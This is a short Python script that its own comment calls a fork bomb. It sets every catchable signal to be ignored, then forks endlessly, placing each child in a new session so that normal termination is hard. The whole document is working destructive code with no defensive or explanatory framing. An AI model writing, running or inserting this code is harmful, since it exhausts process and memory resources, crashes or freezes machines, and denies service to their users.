# A fork bomb that ignores every signal it can, each process in a session of its own.
import os, signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while 1:
    try:
        if not os.fork(): os.setsid()
    except OSError: pass
